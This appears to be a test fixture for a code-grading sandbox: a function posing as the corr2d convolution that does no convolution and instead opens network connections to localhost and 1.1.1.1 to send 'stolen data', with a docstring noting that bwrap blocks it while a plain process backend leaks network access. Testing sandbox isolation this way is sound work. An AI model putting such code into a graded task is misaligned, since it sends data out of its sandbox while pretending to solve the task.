"""Opens network connections: to the grading machine and to the internet.

bwrap: blocked
process: leaks: the worker shares the machine's network
"""
import socket


def corr2d(X, K):
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            connection = socket.create_connection((host, __PORT__ if host == "127.0.0.1"
                                                   else 80), timeout=1)
            connection.sendall(b"stolen data")
            connection.close()
        except OSError:
            pass
    return X
